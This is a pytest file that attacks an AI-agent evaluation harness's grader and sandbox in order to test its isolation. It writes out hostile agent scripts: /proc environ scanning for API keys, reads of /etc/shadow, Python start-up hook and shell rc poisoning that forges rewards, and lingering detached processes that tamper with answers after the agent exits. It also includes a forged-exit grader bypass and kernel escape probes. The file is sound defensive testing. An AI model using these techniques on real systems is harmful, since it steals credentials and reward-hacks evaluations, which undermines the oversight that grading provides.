"""Attacks on grading and on trial isolation, on every backend: local, docker and gVisor.

Each test is a real hostile agent run through the real CLI (the task's instruction.md is
the attack script) on the backend named by the ``backend`` parameter, and each is judged
from OUTSIDE the trial: host files, the harness's own /proc entries, the storage images on
the host disk, and the run dir — never the agent's own verdict. Where the attack's code
runs inside the verifier (a task whose tests import the agent's code, as Harbor's in-process
pytest does), the test plays the verifier's worst case.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from support.host_procs import named
from support.workers import uid_base

from sandbox.storage import IMAGE_NAME, MOUNT_NAME, RESERVE_MB

REPO = Path(__file__).resolve().parents[2]
EXAMPLES = REPO / "examples" / "tasks"


def _evidence_text(run: Any) -> str:
    """Every byte the run dir holds (records, logs, verifier output, workspaces), as text."""
    assert run.run_dir is not None
    chunks = []
    for path in sorted(run.run_dir.rglob("*")):
        if path.is_file() and not path.is_symlink():
            chunks.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(chunks)


def _ws(name: str) -> str:
    return f'"$HARNESS_WORKSPACE/{name}"'


def _edit_toml(task: Path, old: str, new: str) -> None:
    toml = task / "task.toml"
    text = toml.read_text()
    assert old in text, f"{old!r} not in {toml}"
    toml.write_text(text.replace(old, new, 1))


# ===================================================================== the verifier


VERIFIER_SNOOP = r"""
import json, os, glob
found = {"environ_hits": [], "pids_seen": 0, "host_file": None, "root_write": None,
         "shadow": None}
canaries = CANARIES
for entry in glob.glob("/proc/[0-9]*"):
    found["pids_seen"] += 1
    for what in ("environ", "cmdline"):
        try:
            data = open(entry + "/" + what, "rb").read().decode("utf-8", "replace")
        except OSError:
            continue
        for c in canaries:
            at = data.find(c)
            if at >= 0:
                found["environ_hits"].append(entry + "/" + what + ": " + data[at:at + 80])
for path in (HOST_FILE, "/etc/shadow"):
    try:
        found["host_file" if path == HOST_FILE else "shadow"] = open(path).read()[:200]
    except OSError as exc:
        found["host_file" if path == HOST_FILE else "shadow"] = "denied: %s" % exc.strerror
try:
    with open(ROOT_MARKER, "w") as fh:
        fh.write("written by the verifier")
    found["root_write"] = "WROTE"
except OSError as exc:
    found["root_write"] = "denied: %s" % exc.strerror
print("SNOOP " + json.dumps(found))
"""


@pytest.fixture
def host_bait(tmp_path: Path) -> Any:
    """Host files a trial must never reach: a root-only file in /root, a world-readable one."""
    tag = secrets.token_hex(6)
    root_only = Path(f"/root/harness-sec-{tag}.txt")
    root_only.write_text(f"ROOT-ONLY-{tag}")
    root_only.chmod(0o600)
    marker = Path(f"/root/harness-sec-marker-{tag}")
    yield {"root_only": root_only, "marker": marker, "canary": f"ROOT-ONLY-{tag}"}
    root_only.unlink(missing_ok=True)
    marker.unlink(missing_ok=True)


def test_verifier_running_agent_code_cannot_reach_the_harness_or_the_host(
    backend: str, any_cli: Any, sec: Any, tmp_path: Path, host_bait: Any
) -> None:
    """Attack: agent code run by a naive verifier reads the harness environ and host files.

    The harness runs with a provider key and another secret in its environment. The agent
    plants a calc.py that, when the tests import it, scans every /proc/*/environ and
    cmdline it can see, reads a root-only file under the host's /root and /etc/shadow,
    and writes under /root. From outside: no canary in any run file, the host marker file
    was never created, and the harness's own environ block no longer holds the key.
    """
    key = f"sk-canary-{secrets.token_hex(16)}"
    other = f"OTHER-{secrets.token_hex(12)}"
    # The planted code looks for the canaries' prefixes only: it never holds a canary, so
    # any canary in the run dir is one it found.
    prefixes = [key[:10], other[:6], host_bait["canary"][:10]]
    snoop = (
        VERIFIER_SNOOP.replace("CANARIES", json.dumps(prefixes))
        .replace("HOST_FILE", json.dumps(str(host_bait["root_only"])))
        .replace("ROOT_MARKER", json.dumps(str(host_bait["marker"])))
    )
    attack = f"cat > {_ws('calc.py')} <<'PY'\n{snoop}\nPY\n"
    test_sh = (
        # PYTHONSAFEPATH keeps the start dir off sys.path: the naive verifier adds it itself.
        'cd "$HARNESS_WORKSPACE"; PYTHONPATH=. python3 -B -c "import calc" 2>&1 | tail -c 4000\n'
        'echo 0 > "$HARNESS_VERIFIER_DIR/reward.txt"\n'
    )
    name = sec.unique("root-verifier")
    task = sec.write_task(tmp_path / "tasks", name, attack=attack, test_sh=test_sh)
    proc = any_cli.start([task], env={"OPENAI_API_KEY": key, "MYAPP_DB_PASSWORD": other})
    # Once trials run, the harness has taken the key: its environ block must not hold it.
    deadline = time.monotonic() + 60
    while not list(any_cli.output.glob("*/status.json")) and proc.poll() is None:
        assert time.monotonic() < deadline, "the run never started"
        time.sleep(0.05)
    environ = Path(f"/proc/{proc.pid}/environ").read_bytes() if proc.poll() is None else b""
    run = any_cli.finish(proc, timeout=120)
    assert run.code == 0, run
    assert key.encode() not in environ, "the provider key is still in the harness's environ"
    record = run.by_task(name)
    stdout = (run.evidence(record) / "verifier" / "test-stdout.txt").read_text()
    assert "SNOOP " in stdout, f"the planted code did not run in the verifier: {stdout}"
    report = json.loads(stdout.split("SNOOP ", 1)[1].splitlines()[0])
    text = _evidence_text(run)
    for canary in (key, other, host_bait["canary"]):
        assert canary not in text, f"{canary} reached the run dir: {report}"
    assert not host_bait["marker"].exists(), f"the verifier wrote the host's /root: {report}"
    host_shadow = Path("/etc/shadow").read_text()[:200]
    assert report["shadow"] != host_shadow
    assert report["environ_hits"] == [], report
    verifier = record["verifier_posture"]
    assert verifier is not None and verifier["seccomp"] == "2", verifier
    if backend == "local":
        # A per-trial grader identity, neither root nor the agent; and only the trial's own
        # processes are visible.
        assert verifier["dropped"] is True
        assert verifier["uid"][0] not in (0, record["sandbox"]["uid"]), verifier
        assert report["pids_seen"] < 20, report


def test_agent_home_poisoning_never_reaches_the_verifier(
    any_cli: Any, sec: Any, tmp_path: Path
) -> None:
    """Attack grader-env-poison: .pth / sitecustomize / usercustomize and shell rc files.

    The agent fills its HOME with Python start-up hooks (for every Python version) and shell
    rc files, each writing a perfect reward and a marker. The verifier starts Python and a
    login-ish shell naively. It must get a fresh HOME, PYTHONNOUSERSITE, a fixed PATH: the
    reward stays 0 and no hook ran.
    """
    attack = r"""
cat > "$HOME/.hook.py" <<'PY'
import os
d = os.environ.get("HARNESS_VERIFIER_DIR", "/tmp")
open(os.path.join(d, "reward.txt"), "w").write("1")
open("/tmp/hook-ran", "w").write("python")
PY
for v in 3.9 3.10 3.11 3.12 3.13; do
  d="$HOME/.local/lib/python$v/site-packages"; mkdir -p "$d"
  echo "import os; exec(open(os.path.expanduser('~/.hook.py')).read())" > "$d/evil.pth"
  cp "$HOME/.hook.py" "$d/sitecustomize.py"; cp "$HOME/.hook.py" "$d/usercustomize.py"
done
for rc in .bashrc .profile .bash_profile .bash_login; do
  echo 'echo 1 > "$HARNESS_VERIFIER_DIR/reward.txt"; echo shell > /tmp/hook-ran' > "$HOME/$rc"
done
"""
    test_sh = (
        'cd "$HARNESS_WORKSPACE"\n'
        'echo 0 > "$HARNESS_VERIFIER_DIR/reward.txt"\n'
        "python3 -c 'print(\"grading\")'\n"
        "bash -l -c 'echo login shell'\n"
        'echo "HOME=$HOME TMPDIR=$TMPDIR PATH=$PATH NOUSER=$PYTHONNOUSERSITE"\n'
        'ls -la "$HOME"\n'
        '[ -e /tmp/hook-ran ] && echo "HOOK RAN: $(cat /tmp/hook-ran)"\n'
        "exit 0\n"
    )
    name = sec.unique("home-poison")
    task = sec.write_task(tmp_path / "tasks", name, attack=attack, test_sh=test_sh)
    run = any_cli.run([task])
    assert run.code == 0, run
    record = run.by_task(name)
    stdout = (run.evidence(record) / "verifier" / "test-stdout.txt").read_text()
    assert "grading" in stdout, stdout
    assert record["reward"] == 0, (record["reward"], stdout)
    assert "HOOK RAN" not in stdout, stdout
    assert "NOUSER=1" in stdout, stdout
    assert ".hook.py" not in stdout and ".local" not in stdout, "the verifier's HOME is the agent's"


def test_exit_zero_from_agent_code_does_not_pass_the_rewritten_example(
    backend: str, any_cli: Any, tmp_path: Path
) -> None:
    """Attack: a calc.py that prints "OK" and calls os._exit(0) when imported (fix-bug).

    The shipped fix-bug runs the agent's code through $HARNESS_AGENT_EXEC and judges the
    values it returns: reward 0. The same calc.py against a task written the naive way
    (tests import calc.py into the grader and trust the exit status) still scores 1 — the
    residual risk the task-authoring docs describe. Kept as evidence, not hidden.
    """
    forged = "import os, sys\nsys.stdout.write('OK\\n'); sys.stdout.flush()\nos._exit(0)\n"
    tasks = tmp_path / "tasks"
    shutil.copytree(EXAMPLES / "fix-bug", tasks / "fix-bug")
    naive = tasks / "naive"
    shutil.copytree(EXAMPLES / "fix-bug", naive)
    toml = (naive / "task.toml").read_text()
    (naive / "task.toml").write_text(toml.replace("harness-examples/fix-bug", "naive/fix-bug"))
    (naive / "tests" / "test.sh").write_text(
        "#!/bin/bash\n"
        'cd "$HARNESS_WORKSPACE"\n'
        'if PYTHONPATH=. python3 -c "import calc; assert calc.median([4, 1, 3, 2]) == 2.5"; then\n'
        '  echo 1 > "$HARNESS_VERIFIER_DIR/reward.txt"\n'
        "else\n"
        '  echo 0 > "$HARNESS_VERIFIER_DIR/reward.txt"\n'
        "fi\n"
    )
    for task in (tasks / "fix-bug", naive):
        (task / "instruction.md").write_text(
            f"#!/bin/bash\ncat > \"$HARNESS_WORKSPACE/calc.py\" <<'PY'\n{forged}PY\n"
        )
    run = any_cli.run([tasks], timeout=180)
    assert run.code == 0, run
    assert run.by_task("harness-examples/fix-bug")["reward"] == 0
    assert run.by_task("naive/fix-bug")["reward"] == 1, "the naive control must be fooled"


# ===================================================================== processes


def test_late_tamperers_and_a_stdout_holding_orphan_are_dead_before_grading(
    any_cli: Any, sec: Any, tmp_path: Path
) -> None:
    """Attack lingering-tamperer: detached processes wait for the agent to exit, then tamper.

    Every flavour of detaching (setsid, double fork, nohup, a non-dumpable Python) waits for
    the agent's main process to be gone, then rewrites the answer and plants a reward; one
    more orphan keeps the agent's stdout open for ten minutes. The run must end on its own
    (not wait for the orphan), record a ``survivors`` event, and grade the agent's own wrong
    answer: reward 0.
    """
    attack = r"""
echo wrong > "$HARNESS_WORKSPACE/answer.txt"
main=$$
tamper="while kill -0 $main 2>/dev/null; do sleep 0.05; done; sleep 1;
        echo right > '$HARNESS_WORKSPACE/answer.txt'"
setsid bash -c "$tamper" </dev/null >/dev/null 2>&1 &
( ( bash -c "$tamper" </dev/null >/dev/null 2>&1 & ) & )
nohup bash -c "$tamper" </dev/null >/dev/null 2>&1 &
MAIN=$main WS="$HARNESS_WORKSPACE" python3 - <<'PY' </dev/null >/dev/null 2>&1
import ctypes, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
        main = int(os.environ["MAIN"])
        while os.path.exists("/proc/%d" % main):
            time.sleep(0.05)
        time.sleep(1)
        with open(os.path.join(os.environ["WS"], "answer.txt"), "w") as fh:
            fh.write("right\n")
    os._exit(0)
PY
# This one holds our stdout open (the output drain must not wait for it).
setsid bash -c 'exec -a @ORPHAN@ sleep 600' &
exit 0
"""
    test_sh = (
        "sleep 3\n"
        'ok=0; [ "$(cat "$HARNESS_WORKSPACE/answer.txt")" = right ] && ok=1\n'
        'echo "$ok" > "$HARNESS_VERIFIER_DIR/reward.txt"\n'
    )
    name = sec.unique("linger")
    # Named for this test alone: another test's ``sleep 600`` on the host is not this one.
    orphan = f"orphan-{name}"
    task = sec.write_task(
        tmp_path / "tasks",
        name,
        attack=attack.replace("@ORPHAN@", orphan),
        test_sh=test_sh,
        agent_timeout=120,
    )
    # Far below the orphan's 600 s: a drain without a deadline fails this by timing out.
    run = any_cli.run([task], timeout=100)
    assert run.code == 0, run
    record = run.by_task(name)
    assert record["status"] == "completed", record["errors"]
    assert record["reward"] == 0, "a tamperer outlived the agent phase and rewrote the answer"
    survivors = [e for e in record["events"] if e.get("type") == "survivors"]
    assert survivors and survivors[0]["phase"] == "agent", record["events"]
    assert (run.evidence(record) / "workspace" / "answer.txt").read_text().strip() == "wrong"
    assert not _host_procs_named(orphan), "the stdout-holding orphan survived the trial"


def _host_procs_named(argv0: str) -> list[str]:
    """The host's live processes whose ``argv[0]`` is ``argv0`` (pid, cgroups)."""
    found = []
    for pid in named(argv0):
        try:
            found.append(f"{pid}: {argv0} in {Path(f'/proc/{pid}/cgroup').read_text().split()}")
        except OSError:
            continue  # ended meanwhile
    return found


# ===================================================================== contamination


def test_tmp_var_tmp_and_dev_shm_do_not_persist_across_trials(
    any_cli: Any, sec: Any, tmp_path: Path
) -> None:
    """Attack persistence: markers (and a fake gateway token) in /tmp, /var/tmp, /dev/shm.

    Three trials run one after another; each first lists what earlier trials left in the
    shared temp dirs, then leaves its own marker there. No trial may find another's.
    """
    attack = r"""
found=""
for d in /tmp /var/tmp /dev/shm; do
  for f in "$d"/harness-sec-mark-*; do [ -e "$f" ] && found="$found $f:$(cat "$f")"; done
done
echo "FOUND:$found" > "$HARNESS_WORKSPACE/found.txt"
for d in /tmp /var/tmp /dev/shm; do
  echo "hgw-token-$HARNESS_TRIAL_ID" > "$d/harness-sec-mark-$HARNESS_TRIAL_ID" || true
done
"""
    name = sec.unique("persist")
    task = sec.write_task(tmp_path / "tasks", name, attack=attack)
    run = any_cli.run([task], extra=["-r", "3"], timeout=150)
    assert run.code == 0, run
    assert len(run.records) == 3
    for record in run.records:
        found = (run.evidence(record) / "workspace" / "found.txt").read_text()
        assert found.strip() == "FOUND:", f"{record['id']} found another trial's files: {found}"


def test_the_agent_sees_no_other_task_set_nor_the_hosts_private_dirs(
    backend: str, any_cli: Any, sec: Any, tmp_path: Path
) -> None:
    """Attack answer-hunt: search the whole filesystem for another task set's secrets.

    A second task set (tests and solution holding a canary) sits on the host next to the one
    being run, and the run's own task dir holds one too. The agent greps every file it can
    list. From outside: the canary is in no run file; in the local sandbox the agent's root
    holds nothing but system dirs and its own trial.
    """
    canary = f"OTHER-TASKSET-{secrets.token_hex(10)}"
    other = Path(f"/srv/harness-sec-{secrets.token_hex(4)}")
    other_task = sec.write_task(other, "victim", attack="true", test_sh=f"# {canary}\n")
    (other_task / "solution").mkdir()
    (other_task / "solution" / "solve.sh").write_text(f"echo {canary}\n")
    other.chmod(0o755)
    for path in other.rglob("*"):
        path.chmod(0o755 if path.is_dir() else 0o644)
    try:
        # The pattern is assembled at run time, so the script itself never matches it.
        attack = (
            'cd /; ls -a / > "$HARNESS_WORKSPACE/root.txt"\n'
            'ls -a /root > "$HARNESS_WORKSPACE/root-home.txt" 2>&1\n'
            f"a={canary[:7]}; b={canary[7:14]}\n"
            'timeout 60 grep -rsl --exclude-dir=proc --exclude-dir=sys -e "$a$b" / '
            '> "$HARNESS_WORKSPACE/hits.txt" 2>/dev/null; true\n'
        )
        name = sec.unique("hunt")
        task = sec.write_task(
            tmp_path / "tasks", name, attack=attack, agent_timeout=90,
            tests_files={"secret.txt": canary},
        )  # fmt: skip
        run = any_cli.run([task], timeout=150)
    finally:
        shutil.rmtree(other, ignore_errors=True)
    assert run.code == 0, run
    record = run.by_task(name)
    hits = (run.evidence(record) / "workspace" / "hits.txt").read_text()
    assert canary not in _evidence_text(run).replace(canary[:14], ""), hits
    assert hits.strip() == "", f"the agent found grader files: {hits}"
    if backend == "local":
        listing = set((run.evidence(record) / "workspace" / "root.txt").read_text().split())
        assert not listing & {"home", "work", "srv", "opt", "mnt", "media"}, listing
        assert "trial" in listing
        # /root exists only as the path to the harness's own Python (bound read-only).
        prefix = Path(os.path.realpath(sys.executable)).parents[1]
        allowed = {".", ".."} | ({prefix.parts[2]} if prefix.parts[1:2] == ("root",) else set())
        home = (run.evidence(record) / "workspace" / "root-home.txt").read_text().split()
        assert "root" not in listing or set(home) <= allowed, home


# ===================================================================== kernel surface


KERNEL_ATTACK = r"""
report() { echo "$1=$2" >> "$HARNESS_WORKSPACE/kernel.txt"; }
unshare -Ur id >/dev/null 2>&1; report unshare_user $?
unshare -m true >/dev/null 2>&1; report unshare_mount $?
python3 - <<'PY' >> "$HARNESS_WORKSPACE/kernel.txt" 2>&1
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, call):
    res = call()
    print("%s=%s" % (name, "ok" if res == 0 else errno.errorcode.get(ctypes.get_errno(), "?")))
attempt("py_unshare_user", lambda: libc.unshare(0x10000000))
attempt("py_mount_tmpfs", lambda: libc.mount(b"x", b"/tmp", b"tmpfs", 0, None))
attempt("keyctl", lambda: 0 if libc.syscall(250, 0, 0, 0, 0, 0) >= 0 else -1)
attempt("bpf", lambda: 0 if libc.syscall(321, 0, 0, 0) >= 0 else -1)
status = dict(l.split(":", 1) for l in open("/proc/self/status") if ":" in l)
print("seccomp=" + status.get("Seccomp", "?").strip())
PY
"""


def test_no_user_namespaces_mounts_keyring_or_bpf_and_posture_reports_seccomp(
    any_cli: Any, sec: Any, tmp_path: Path
) -> None:
    """Attack kernel-surface: unshare -Ur, mounts in a new user namespace, keyctl, bpf.

    Every attempt fails in the agent phase and in the verifier; both postures recorded by
    the harness say ``Seccomp: 2``.
    """
    test_sh = (
        KERNEL_ATTACK.replace("kernel.txt", "kernel-verifier.txt").replace(
            "$HARNESS_WORKSPACE", "$HARNESS_VERIFIER_DIR"
        )
        + 'echo 0 > "$HARNESS_VERIFIER_DIR/reward.txt"\n'
    )
    name = sec.unique("kernel")
    task = sec.write_task(tmp_path / "tasks", name, attack=KERNEL_ATTACK, test_sh=test_sh)
    run = any_cli.run([task])
    assert run.code == 0, run
    record = run.by_task(name)
    evidence = run.evidence(record)
    reports = (evidence / "workspace" / "kernel.txt", evidence / "verifier" / "kernel-verifier.txt")
    for path in reports:
        results = dict(line.split("=", 1) for line in path.read_text().split() if "=" in line)
        assert results["unshare_user"] != "0" and results["unshare_mount"] != "0", results
        for name_ in ("py_unshare_user", "py_mount_tmpfs", "keyctl", "bpf"):
            assert results[name_] != "ok", (path.name, results)
        assert results["seccomp"] == "2", results
    assert record["posture"]["seccomp"] == "2"
    assert record["verifier_posture"]["seccomp"] == "2"


# ===================================================================== disk


def test_a_disk_fill_stops_at_storage_mb_and_never_reaches_the_host_disk(
    any_cli: Any, sec: Any, tmp_path: Path
) -> None:
    """Attack disk-fill: write 2 GiB into the workspace, /tmp and /dev/shm (storage_mb=256).

    From outside, while the agent holds its files: the trial's storage image on the host
    has at most its limit plus the reserve allocated. The trial ends ``agent_error`` with a
    ``storage_full`` event; the verifier still grades.

    No step races the clock: the agent holds its files until the test has flushed the
    trial's filesystem to its image (a loaded host can keep the writes in memory for half
    a minute) and measured it, then lets go.
    """
    attack = r"""
dd if=/dev/zero of="$HARNESS_WORKSPACE/big" bs=1M count=2048 2>/dev/null
dd if=/dev/zero of=/tmp/big bs=1M count=512 2>/dev/null
dd if=/dev/zero of=/dev/shm/big bs=1M count=512 2>/dev/null
du -sm "$HARNESS_WORKSPACE/big" /tmp/big /dev/shm/big > "$HARNESS_WORKSPACE/du.txt" 2>&1
touch "$HARNESS_WORKSPACE/filled"
for _ in $(seq 1200); do [ -e "$HARNESS_WORKSPACE/measured" ] && break; sleep 0.25; done
"""
    name = sec.unique("diskfill")
    task = sec.write_task(tmp_path / "tasks", name, attack=attack, agent_timeout=600)
    _edit_toml(task, "memory_mb = 512", "memory_mb = 512\nstorage_mb = 256")
    proc = any_cli.start([task])
    largest, measured = 0, False
    deadline = time.monotonic() + 900
    while proc.poll() is None and time.monotonic() < deadline:
        for root in any_cli.tmpdir.glob("harness-run-*/harness-trial-*"):
            workspace = root / MOUNT_NAME / "workspace"
            held = not measured and (workspace / "filled").exists()
            if held:  # the agent holds everything it could write: flush, then measure
                subprocess.run(["sync", "-f", str(workspace)], check=False, timeout=300)
            try:
                largest = max(largest, (root / IMAGE_NAME).stat().st_blocks * 512)
            except FileNotFoundError:
                continue
            if held:
                (workspace / "measured").touch()
                measured = True
        time.sleep(0.2)
    run = any_cli.finish(proc, timeout=300)
    assert measured, "the agent never filled its disk (or the run ended first)"
    assert largest > 100 << 20, "no storage image was seen filling up (test did not bite)"
    assert largest <= (256 + RESERVE_MB + 16) << 20, f"{largest >> 20} MB reached the host disk"
    record = run.by_task(name)
    assert record["status"] == "agent_error", record
    assert any(e["type"] == "StorageLimitReached" for e in record["errors"]), record["errors"]
    assert any(e.get("type") == "storage_full" for e in record["events"]), record["events"]
    assert record["reward"] == 1, "the verifier must still run after the agent filled the disk"
    assert record["sandbox"]["limits"]["storage_mb"] == 256


# ===================================================================== refusals


def test_limits_the_engine_cannot_satisfy_and_a_local_root_verifier_are_refused(
    backend: str, any_cli: Any, sec: Any, tmp_path: Path
) -> None:
    """Deterministic failures are refused up front (exit 2, naming the field), never retried."""
    tasks = tmp_path / "tasks"
    if backend == "local":
        task = sec.write_task(tasks, sec.unique("rootver"), attack="true")
        _edit_toml(task, "[verifier]", '[verifier]\nuser = "root"')
        run = any_cli.run([tasks])
        assert run.code == 2, run
        assert "[verifier].user = root" in run.stderr and "--sandbox docker" in run.stderr
        assert run.run_dir is None
        return
    task = sec.write_task(tasks, sec.unique("cpus"), attack="true")
    _edit_toml(task, "cpus = 1", "cpus = 512")
    run = any_cli.run([tasks])
    assert run.code == 2, run
    assert "[environment].cpus = 512" in run.stderr, run.stderr
    _edit_toml(task, "cpus = 512", "cpus = 1")
    _edit_toml(task, "memory_mb = 512", "memory_mb = 99999999")
    run = any_cli.run([tasks])
    assert run.code == 2 and "[environment].memory_mb = 99999999" in run.stderr, run


@pytest.mark.docker
def test_a_missing_image_is_not_retried(cli: Any, sec: Any, tmp_path: Path) -> None:
    """A task image no registry has fails once, marked not retryable (default retries: 2)."""
    task = sec.write_task(tmp_path / "tasks", sec.unique("noimage"), attack="true")
    image = f"harness-sec/none-{secrets.token_hex(4)}:1"
    _edit_toml(task, "[environment]", f'[environment]\ndocker_image = "{image}"')
    run = cli.run([task], timeout=120)
    assert run.code == 1, run
    (record,) = run.records
    assert record["status"] == "environment_error"
    assert record["attempt"] == 1 and record["previous_attempts"] == [], record
    assert record["errors"][0].get("retryable") is False, record["errors"]


@pytest.mark.docker
@pytest.mark.root
def test_a_local_trials_sweep_never_touches_a_containers_process_of_the_same_uid(
    client: Any, sec: Any, tmp_path: Path
) -> None:
    """A local trial and a container running the same numeric uid: sweeps stay in their lane.

    A container runs a process as uid 61500 (this worker's: ``uid_base``) while a local
    trial made to use that uid too (``sandbox_uid``) runs and ends with its kill sweep. The
    container's process must live on.
    """
    uid = uid_base(61500)
    container = client.containers.run(
        sec.BASE_IMAGE,
        ["sleep", "300"],
        user=f"{uid}:{uid}",
        network_mode="none",
        labels={sec.MANAGED: "1", sec.RUN_LABEL: f"sec-lane-{secrets.token_hex(4)}"},
        detach=True,
    )
    try:
        task = sec.write_task(tmp_path / "tasks", sec.unique("lane"), attack="sleep 1\n")
        run = sec.Cli(tmp_path, sandbox="local").run(
            [task],
            extra=[
                "--set",
                f"sandbox_uid={uid}",
                "--set",
                f"sandbox_gid={uid}",
            ],
        )
        assert run.code == 0, run
        assert run.by_task(task.name)["sandbox"]["uid"] == uid
        container.reload()
        assert container.status == "running", "a local trial's sweep killed a container's process"
    finally:
        container.remove(force=True)
